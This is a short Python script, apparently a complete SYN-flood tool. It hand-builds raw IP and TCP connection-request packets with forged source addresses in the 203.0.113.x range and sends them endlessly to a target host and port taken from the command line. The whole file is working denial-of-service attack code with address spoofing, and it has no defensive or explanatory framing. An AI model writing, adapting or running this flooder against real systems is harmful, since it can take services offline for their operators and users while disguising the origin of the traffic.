"""Sends TCP packets that begin connections, from invented addresses: syn-flood.py TARGET PORT SEED."""
import random
import socket
import struct
import sys
import time

target, port = sys.argv[1], int(sys.argv[2])
random.seed(int(sys.argv[3]))


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def segment(source):
    fields = (random.randint(1024, 65000), port, random.getrandbits(32), 0, 0x50, 2, 64240)
    pseudo = source + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, 20)
    blank = struct.pack("!HHIIBBHHH", *fields, 0, 0)
    return struct.pack("!HHIIBBHHH", *fields, checksum(pseudo + blank), 0)


def packet():
    source = socket.inet_aton("203.0.113.%d" % random.randint(1, 250))
    header = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0)
    return header + source + socket.inet_aton(target) + segment(source)


# The kernel fills in the identification and the checksum of the IP header (raw(7)).
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
while True:
    for _ in range(4):
        sender.sendto(packet(), (target, 0))
    time.sleep(0.02)
